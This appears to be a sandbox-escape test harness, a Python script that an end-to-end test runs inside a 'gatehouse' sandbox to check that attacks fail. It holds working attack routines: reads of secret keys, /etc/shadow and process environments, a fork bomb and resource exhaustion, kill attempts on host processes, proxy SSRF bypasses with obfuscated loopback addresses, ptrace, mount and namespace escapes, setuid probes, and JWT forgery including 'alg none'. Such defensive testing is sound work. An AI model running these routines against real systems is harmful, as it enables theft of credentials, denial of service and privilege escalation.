"""Escape attempts run INSIDE `gatehouse run` by tests/e2e/test_run_escape.py (Python side).

Usage: python3 /app/attack.py ATTACK ARG...  Each attack tries what it is named after and prints
one JSON object (the outcome of every attempt) as its last line of output. An outcome is "OK"
or "OK:<detail>" when the attempt succeeded, else the errno name (ENOENT, EPERM...) or the
exception's name. The test outside decides what each outcome must be."""
import base64
import ctypes
import errno
import json
import os
import signal
import socket
import subprocess
import sys
import time
import urllib.error
import urllib.request

libc = ctypes.CDLL(None, use_errno=True)


def name(e):
    if isinstance(e, urllib.error.HTTPError):
        return "HTTP %d" % e.code
    if isinstance(e, urllib.error.URLError):
        return "URLError:" + (name(e.reason) if isinstance(e.reason, OSError) else str(e.reason)[:80])
    if isinstance(e, socket.gaierror):
        return "gaierror %d" % e.errno
    if isinstance(e, socket.timeout):
        return "ETIMEDOUT"
    if isinstance(e, OSError) and e.errno:
        return errno.errorcode.get(e.errno, str(e.errno))
    return type(e).__name__


def t(f):
    """Runs f; its outcome as a string (bytes results in hex, so secrets stay recognisable)."""
    try:
        r = f()
    except OSError as e:
        return name(e)
    except Exception as e:  # a refusal of any kind is an outcome, not a crash
        return "%s:%s" % (type(e).__name__, str(e)[:120])
    if r is None:
        return "OK"
    if isinstance(r, bytes):
        return "OK:" + r.hex()
    return "OK:%s" % (r,)


def lc(fn, *args):
    """Calls a libc function returning -1 on failure; its outcome."""
    ctypes.set_errno(0)
    rc = getattr(libc, fn)(*args)
    if rc == -1:
        return errno.errorcode.get(ctypes.get_errno(), str(ctypes.get_errno()))
    return "OK:%d" % rc


def read(p):
    with open(p, "rb") as f:
        return f.read()


def write(p):
    fd = os.open(p, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)
    os.write(fd, b"escaped")
    os.close(fd)


def write_bytes(p, v):
    fd = os.open(p, os.O_WRONLY)
    try:
        os.write(fd, v)
    finally:
        os.close(fd)


def open_wronly(p):
    """Opens for writing without writing anything (the target may be dangerous)."""
    os.close(os.open(p, os.O_WRONLY))


def proxy_addr():
    hp = os.environ["HTTP_PROXY"].split("://", 1)[1].rstrip("/")
    h, p = hp.rsplit(":", 1)
    return h, int(p)


def via_proxy(line, host="x"):
    """Sends one raw request head to the egress proxy; returns 'HTTP <status>' and the body's
    first bytes, or the error."""
    try:
        s = socket.create_connection(proxy_addr(), timeout=10)
    except OSError as e:
        return name(e)
    try:
        s.sendall(("%s\r\nHost: %s\r\nConnection: close\r\n\r\n" % (line, host)).encode())
        data = b""
        while b"\r\n\r\n" not in data and len(data) < 65536:
            chunk = s.recv(4096)
            if not chunk:
                break
            data += chunk
        if line.startswith("CONNECT") and data.startswith(b"HTTP/1.1 200"):
            return "HTTP 200 tunnel"
        s.settimeout(3)
        try:
            while len(data) < 65536:
                chunk = s.recv(4096)
                if not chunk:
                    break
                data += chunk
        except OSError:
            pass
        head, _, body = data.partition(b"\r\n\r\n")
        status = head.split(b" ", 2)[1].decode() if head.startswith(b"HTTP/") else "?"
        return "HTTP %s %s" % (status, body[:60].decode(errors="replace"))
    except OSError as e:
        return name(e)
    finally:
        s.close()


def tcp(host, port, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(5)
    try:
        s.connect((host, port))
        s.sendall(b"escaped\n")
    finally:
        s.close()


def udp(host, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        s.sendto(b"escaped", (host, port))
    finally:
        s.close()


def abstract(name_):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        s.connect("\0" + name_)
        s.sendall(b"escaped\n")
    finally:
        s.close()


def gateway(method, path, token, body=None):
    """A request to the gateway (GATEHOUSE_URL) with token; returns 'status code'."""
    req = urllib.request.Request(os.environ["GATEHOUSE_URL"] + path, method=method,
                                 headers={"Authorization": "Bearer " + token, "Content-Type": "application/json"},
                                 data=json.dumps(body).encode() if body is not None else None)
    try:
        r = urllib.request.urlopen(req, timeout=10)
        return "%d %s" % (r.status, r.read()[:200].decode(errors="replace"))
    except urllib.error.HTTPError as e:
        try:
            code = json.loads(e.read()).get("error", {}).get("code", "")
        except ValueError:
            code = ""
        return "%d %s" % (e.code, code)
    except OSError as e:
        return name(e)


def b64(d):
    return base64.urlsafe_b64encode(json.dumps(d, separators=(",", ":")).encode()).rstrip(b"=").decode()


# ---- the attacks ----

def a_secrets(datadir, home):
    r = {}
    for f in ("master.key", "gatehouse.db", "gatehouse.db-wal", "audit/audit.log"):
        r[f] = t(lambda: read(os.path.join(datadir, f)))
    r["datadir"] = t(lambda: os.listdir(datadir))
    r["link-abs"] = t(lambda: read("/app/key-abs"))
    r["link-rel"] = t(lambda: read("/app/key-rel"))
    r["link-store"] = t(lambda: read("/app/store-abs"))
    r["proc1-root"] = t(lambda: read("/proc/1/root" + datadir + "/master.key"))
    r["proc1-cwd"] = t(lambda: os.listdir("/proc/1/cwd"))
    r["proc1-fd"] = t(lambda: os.listdir("/proc/1/fd"))
    r["proc1-fd6"] = t(lambda: read("/proc/1/fd/6"))
    fds = {}
    for fd in os.listdir("/proc/self/fd"):
        fds[fd] = t(lambda: os.readlink("/proc/self/fd/" + fd))
    r["fds"] = fds
    found = []
    for d, dirs, files in os.walk("/"):  # everything but /proc and the read-only system binds
        if d == "/":
            dirs[:] = [x for x in dirs if x not in ("proc", "sys", "usr", "lib", "lib32", "lib64", "libx32", "bin",
                                                     "sbin")]
        found += [os.path.join(d, fn) for fn in files if fn == "master.key" or fn.startswith("gatehouse.db")]
    r["found"] = found
    r["environ"] = {k: v for k, v in os.environ.items()}
    r["environ-self"] = t(lambda: read("/proc/self/environ").decode())
    r["environ-1"] = t(lambda: read("/proc/1/environ"))
    r["home"] = t(lambda: os.listdir(home))
    return r


def a_shadow(home):
    r = {}
    for p in ("/etc/shadow", "/etc/gshadow", "/etc/sudoers", "/root/.bash_history", home + "/.bashrc",
              "/var/lib/dpkg/status"):
        r[p] = t(lambda: read(p))
    for d in ("/root", home, "/home", "/var", "/run", "/work", "/sys", "/boot", "/mnt"):
        r["ls " + d] = t(lambda: os.listdir(d))
    r["passwd"] = t(lambda: read("/etc/passwd").decode())
    r["getpwnam root"] = t(lambda: __import__("pwd").getpwnam("root").pw_dir)
    return r


def a_write(nonce, datadir):
    r = {}
    for d in ("/", "/etc", "/usr", "/usr/lib", "/bin", "/app", "/dev", "/proc", "/var/tmp", "/dev/shm", "/run",
              datadir, "/root", "/home", "/sys/fs/cgroup", "/tmp"):
        r["write " + d] = t(lambda: write(os.path.join(d, nonce)))
        r["mkdir " + d] = t(lambda: os.mkdir(os.path.join(d, nonce + ".d")))
    r["chmod /app"] = t(lambda: os.chmod("/app/attack.py", 0o777))
    r["symlink /app"] = t(lambda: os.symlink("/tmp", "/app/" + nonce + ".l"))
    r["rename /app"] = t(lambda: os.rename("/app/attack.py", "/app/" + nonce + ".r"))
    r["truncate /app"] = t(lambda: os.truncate("/app/attack.py", 0))
    r["utime /usr/bin/env"] = t(lambda: os.utime("/usr/bin/env"))
    # opened for writing, nothing written (the targets are dangerous)
    for p in ("/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern", "/proc/sys/vm/drop_caches",
              "/proc/sys/kernel/hostname", "/proc/1/oom_score_adj", "/dev/null"):
        r["open-w " + p] = t(lambda: open_wronly(p))
    # a second user-namespace map (root inside), or groups allowed again: refused
    for p, v in (("/proc/self/uid_map", b"0 0 1\n"), ("/proc/self/gid_map", b"0 0 1\n"),
                 ("/proc/self/setgroups", b"allow")):
        r["write " + p] = t(lambda: write_bytes(p, v))
    r["read back /tmp"] = t(lambda: read("/tmp/" + nonce).decode())
    return r


def a_procs(nonce, victim, gwpid):
    r = {}
    pids = {}
    for p in os.listdir("/proc"):
        if p.isdigit():
            pids[p] = t(lambda: read("/proc/%s/cmdline" % p).replace(b"\0", b" ").decode(errors="replace"))
    r["pids"] = pids
    r["stat victim"] = t(lambda: os.stat("/proc/%d" % victim) and None)
    r["stat gateway"] = t(lambda: os.stat("/proc/%d" % gwpid) and None)
    r["loadavg"] = t(lambda: read("/proc/loadavg").decode().strip())
    # kill attempts
    r["kill victim"] = t(lambda: os.kill(victim, signal.SIGKILL))
    r["kill gateway"] = t(lambda: os.kill(gwpid, signal.SIGKILL))
    r["killpg victim"] = t(lambda: os.killpg(victim, signal.SIGKILL))
    r["pidfd victim"] = t(lambda: os.close(os.pidfd_open(victim)))
    r["libc kill victim"] = lc("kill", victim, 9)
    r["kill -1"] = t(lambda: os.kill(-1, signal.SIGKILL))
    r["kill init"] = t(lambda: os.kill(1, signal.SIGKILL))
    time.sleep(0.2)
    r["alive after"] = True
    return r


def a_forkbomb(nonce):
    n, first = 0, None
    while True:
        try:
            p = os.fork()
        except OSError as e:
            first = e.errno
            break
        if p == 0:
            break  # a child becomes a bomb too (below)
        n += 1
    if first is not None:  # the first process: report where forking stopped
        print(json.dumps({"forked": n, "error": errno.errorcode.get(first, str(first)), "nonce": nonce}), flush=True)
    while True:  # every process keeps trying for ever
        try:
            os.fork()
        except OSError:
            time.sleep(0.005)


def a_mem(nonce):
    a = []
    while True:
        a.append(b"x" * (1 << 20))  # written pages, not a lazy mapping


def a_cpu(nonce, ignore=False):
    if ignore:
        signal.signal(signal.SIGXCPU, signal.SIG_IGN)
    while True:
        pass


def a_wall(nonce):
    # a daemon that leaves the session and ignores the polite signals: it must die with the run
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                signal.signal(s, signal.SIG_IGN)
            time.sleep(120)
            os._exit(0)
        os._exit(0)
    print(json.dumps({"daemon": "started", "nonce": nonce}), flush=True)
    time.sleep(120)


def a_raw():
    r = {}
    r["AF_INET SOCK_RAW ICMP"] = t(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close())
    r["AF_INET SOCK_RAW IPPROTO_RAW"] = t(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW).close())
    r["AF_INET SOCK_RAW TCP"] = t(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP).close())
    r["AF_INET6 SOCK_RAW"] = t(lambda: socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6).close())
    r["AF_PACKET SOCK_RAW"] = t(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0300).close())
    r["AF_PACKET SOCK_DGRAM"] = t(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0x0300).close())
    r["AF_INET SOCK_PACKET"] = t(lambda: socket.socket(socket.AF_INET, 10, 0x0300).close())
    r["AF_NETLINK ROUTE"] = t(lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0).close())
    r["SOCK_RAW|NONBLOCK"] = t(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW | socket.SOCK_NONBLOCK,
                                                     socket.IPPROTO_ICMP).close())
    return r


def a_hostport(port, uport, abstract_name, host_ip, gwport):
    port, uport, gwport = int(port), int(uport), int(gwport)
    r = {}
    r["tcp 127.0.0.1"] = t(lambda: tcp("127.0.0.1", port))
    r["tcp localhost"] = t(lambda: tcp("localhost", port))
    r["tcp host ip"] = t(lambda: tcp(host_ip, port))
    r["tcp ::1"] = t(lambda: tcp("::1", port, socket.AF_INET6))
    r["tcp gateway port"] = t(lambda: tcp("127.0.0.1", gwport))
    r["udp 127.0.0.1"] = t(lambda: udp("127.0.0.1", uport))
    r["udp host ip"] = t(lambda: udp(host_ip, uport))
    r["unix abstract"] = t(lambda: abstract(abstract_name))
    r["proxy GET 127.0.0.1"] = via_proxy("GET http://127.0.0.1:%d/ HTTP/1.1" % port)
    r["proxy GET localhost"] = via_proxy("GET http://localhost:%d/ HTTP/1.1" % port)
    r["proxy GET [::1]"] = via_proxy("GET http://[::1]:%d/ HTTP/1.1" % port)
    r["proxy GET [::ffff:127.0.0.1]"] = via_proxy("GET http://[::ffff:127.0.0.1]:%d/ HTTP/1.1" % port)
    r["proxy GET 2130706433"] = via_proxy("GET http://2130706433:%d/ HTTP/1.1" % port)
    r["proxy GET 0x7f.1"] = via_proxy("GET http://0x7f.1:%d/ HTTP/1.1" % port)
    r["proxy GET 127.1"] = via_proxy("GET http://127.1:%d/ HTTP/1.1" % port)
    r["proxy GET 0"] = via_proxy("GET http://0:%d/ HTTP/1.1" % port)
    r["proxy GET host ip"] = via_proxy("GET http://%s:%d/ HTTP/1.1" % (host_ip, port))
    r["proxy CONNECT 127.0.0.1"] = via_proxy("CONNECT 127.0.0.1:%d HTTP/1.1" % port, "127.0.0.1:%d" % port)
    r["proxy CONNECT localhost"] = via_proxy("CONNECT localhost:%d HTTP/1.1" % port, "localhost:%d" % port)
    r["proxy CONNECT [::1]"] = via_proxy("CONNECT [::1]:%d HTTP/1.1" % port, "[::1]:%d" % port)
    r["proxy CONNECT host ip"] = via_proxy("CONNECT %s:%d HTTP/1.1" % (host_ip, port), "%s:%d" % (host_ip, port))
    r["proxy origin-form"] = via_proxy("GET / HTTP/1.1", "127.0.0.1:%d" % port)
    return r


def a_origins(allowed, denied):
    r = {}
    ah, ap = allowed.split("://", 1)[1].rsplit(":", 1)
    dh, dp = denied.split("://", 1)[1].rsplit(":", 1)
    r["resolve example.com"] = t(lambda: socket.getaddrinfo("example.com", 443)[0][4][0])
    r["resolve gatehouse.invalid"] = t(lambda: socket.getaddrinfo("gatehouse.invalid", 80)[0][4][0])
    r["udp dns 8.8.8.8"] = t(lambda: udp("8.8.8.8", 53))
    r["tcp 1.1.1.1:443"] = t(lambda: tcp("1.1.1.1", 443))
    r["tcp denied direct"] = t(lambda: tcp(dh, int(dp)))
    r["tcp allowed direct"] = t(lambda: tcp(ah, int(ap)))
    r["proxy GET denied"] = via_proxy("GET %s/secret HTTP/1.1" % denied)
    r["proxy CONNECT denied"] = via_proxy("CONNECT %s:%s HTTP/1.1" % (dh, dp), "%s:%s" % (dh, dp))
    r["proxy GET example.com"] = via_proxy("GET http://example.com/ HTTP/1.1", "example.com")
    r["proxy CONNECT example.com:443"] = via_proxy("CONNECT example.com:443 HTTP/1.1", "example.com:443")
    r["proxy GET allowed host, denied port"] = via_proxy("GET http://%s:%s/ HTTP/1.1" % (ah, dp))
    r["proxy ftp"] = via_proxy("GET ftp://%s:%s/ HTTP/1.1" % (dh, dp))
    r["proxy userinfo"] = via_proxy("GET http://%s:%s@%s:%s/ HTTP/1.1" % (ah, ap, dh, dp))
    # the allowed origin, through the proxy: by hand with a Host header naming the denied one,
    # and the way an app does it (urllib honours HTTP_PROXY)
    r["proxy GET allowed, Host: denied"] = via_proxy("GET %s/hi HTTP/1.1" % allowed, "%s:%s" % (dh, dp))
    r["urllib allowed"] = t(lambda: urllib.request.urlopen(allowed + "/hello", timeout=10).read().decode())
    r["urllib denied"] = t(lambda: urllib.request.urlopen(denied + "/hello", timeout=10).read().decode())
    return r


def a_syscalls():
    r = {}
    # ptrace
    r["ptrace TRACEME"] = lc("ptrace", 0, 0, None, None)
    r["ptrace ATTACH init"] = lc("ptrace", 16, 1, None, None)
    child = os.fork()
    if child == 0:
        time.sleep(10)
        os._exit(0)
    r["ptrace ATTACH sibling"] = lc("ptrace", 16, child, None, None)
    r["ptrace SEIZE sibling"] = lc("ptrace", 0x4206, child, None, None)
    libc.process_vm_readv.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_ulong, ctypes.c_void_p,
                                      ctypes.c_ulong, ctypes.c_ulong]
    r["process_vm_readv sibling"] = lc("process_vm_readv", child, None, 0, None, 0, 0)
    r["open /proc/1/mem"] = t(lambda: read("/proc/1/mem"))
    r["open /proc/1/environ"] = t(lambda: read("/proc/1/environ"))
    os.kill(child, signal.SIGKILL)
    os.waitpid(child, 0)
    # mount and friends
    r["mount tmpfs"] = lc("mount", b"none", b"/tmp", b"tmpfs", 0, None)
    r["mount bind /app"] = lc("mount", b"/app", b"/tmp", None, 0x1000, None)
    r["mount remount / rw"] = lc("mount", None, b"/", None, 0x20 | 0x1000, None)
    r["mount proc"] = lc("mount", b"proc", b"/tmp", b"proc", 0, None)
    r["umount2 /app"] = lc("umount2", b"/app", 2)
    r["umount2 /proc"] = lc("umount2", b"/proc", 2)
    r["chroot /tmp"] = lc("chroot", b"/tmp")
    p = subprocess.run(["/usr/bin/mount", "-t", "tmpfs", "none", "/tmp"], capture_output=True, text=True)
    r["/usr/bin/mount"] = "exit %d %s" % (p.returncode, p.stderr.strip()[:100])
    r["/app still read-only"] = t(lambda: write("/app/after-mount"))
    # namespaces
    for flag, v in (("NEWUSER", 0x10000000), ("NEWNS", 0x00020000), ("NEWNET", 0x40000000),
                    ("NEWPID", 0x20000000), ("NEWUTS", 0x04000000), ("NEWIPC", 0x08000000),
                    ("NEWCGROUP", 0x02000000), ("NEWUSER|NEWNS", 0x10020000)):
        r["unshare " + flag] = lc("unshare", v)
    r["setns self net"] = t(lambda: lc("setns", os.open("/proc/self/ns/net", os.O_RDONLY), 0))
    r["open /proc/1/ns/mnt"] = t(lambda: os.close(os.open("/proc/1/ns/mnt", os.O_RDONLY)))
    p = subprocess.run(["/usr/bin/unshare", "-Ur", "/usr/bin/id", "-u"], capture_output=True, text=True)
    r["/usr/bin/unshare -Ur"] = "exit %d %s %s" % (p.returncode, p.stdout.strip(), p.stderr.strip()[:100])
    p = subprocess.run(["/usr/bin/unshare", "-m", "/bin/true"], capture_output=True, text=True)
    r["/usr/bin/unshare -m"] = "exit %d %s" % (p.returncode, p.stderr.strip()[:100])
    r["uid after"] = os.getuid()
    return r


def a_setuid(nonce):
    r = {}
    r["setuid 0"] = t(lambda: os.setuid(0))
    r["setgid 0"] = t(lambda: os.setgid(0))
    r["setgroups 0"] = t(lambda: os.setgroups([0]))
    r["seteuid 0"] = t(lambda: os.seteuid(0))
    for cmd in (["/usr/bin/su", "-c", "id -u", "root"], ["/usr/bin/passwd", "-S", "root"],
                ["/usr/bin/newgrp", "root"], ["/usr/bin/chsh", "-s", "/bin/sh", "root"],
                ["/app/suid-helper", "probe"], ["/app/caps-helper", "probe"], ["/app/suid-id", "-u"]):
        if not os.path.exists(cmd[0]):
            r[cmd[0]] = "absent"
            continue
        try:
            p = subprocess.run(cmd, capture_output=True, text=True, timeout=10, stdin=subprocess.DEVNULL)
            r[cmd[0]] = "exit %d out=%s err=%s" % (p.returncode, p.stdout.strip()[:300], p.stderr.strip()[:120])
        except OSError as e:
            r[cmd[0]] = name(e)
    # a setuid-root binary held running, so the host can look at its real uid from outside
    p = subprocess.run(["/app/suid-helper", "hold", nonce], capture_output=True, text=True, timeout=20)
    r["held"] = "exit %d out=%s" % (p.returncode, p.stdout.strip()[:300])
    r["uid after"] = [os.getuid(), os.geteuid(), os.getgid(), os.getegid()]
    return r


def a_token(ledger):
    r = {}
    tok = os.environ["GATEHOUSE_TOKEN"]
    h, p, s = tok.split(".")
    claims = json.loads(base64.urlsafe_b64decode(p + "=" * (-len(p) % 4)))
    r["claims"] = claims
    q = lambda env, res="crm", sql="SELECT name FROM customers WHERE id = 1": {"resource": res, "environment": env,
                                                                              "sql": sql}
    r["own staging"] = gateway("POST", "/v1/query", tok, q("staging"))
    r["production"] = gateway("POST", "/v1/query", tok, q("production"))
    r["other resource"] = gateway("POST", "/v1/query", tok, q("staging", ledger, "SELECT 1"))
    for what, change in (("forged app", {"app": "billing"}), ("forged env", {"env": "production"}),
                         ("forged user", {"sub": "dave"}), ("no app", {"app": None})):
        c = dict(claims)
        c.update(change)
        c = {k: v for k, v in c.items() if v is not None}
        forged = "%s.%s.%s" % (h, b64(c), s)
        r[what] = gateway("POST", "/v1/query", forged, q(c.get("env", "staging")))
    none = "%s.%s." % (b64({"alg": "none", "typ": "JWT"}), b64(dict(claims, app="billing", env="production")))
    r["alg none"] = gateway("POST", "/v1/query", none, q("production"))
    r["mint token"] = gateway("POST", "/v1/tokens", tok, {"user": "alice", "environment": "production",
                                                           "app": "billing"})
    r["read audit"] = gateway("GET", "/v1/audit", tok)
    r["put config"] = gateway("PUT", "/v1/config", tok, {"version": 1})
    return r


def main():
    # the last argument is the run's nonce (so that every process of the run carries it in its
    # command line, for the test's look for survivors); attacks that need it get it first
    what, args, nonce = sys.argv[1], sys.argv[2:-1], sys.argv[-1]
    if what in ("write", "procs", "forkbomb", "mem", "cpu", "cpu-ignore", "wall", "setuid"):
        args = [nonce] + args
    fn = {"secrets": a_secrets, "shadow": a_shadow, "write": a_write, "procs": a_procs, "forkbomb": a_forkbomb,
          "mem": a_mem, "cpu": a_cpu, "cpu-ignore": lambda n: a_cpu(n, True), "wall": a_wall, "raw": a_raw,
          "hostport": a_hostport, "origins": a_origins, "syscalls": a_syscalls, "setuid": a_setuid,
          "token": a_token}[what]
    if what == "procs":
        args = [args[0], int(args[1]), int(args[2])]
    print(json.dumps(fn(*args)), flush=True)


if __name__ == "__main__":
    main()
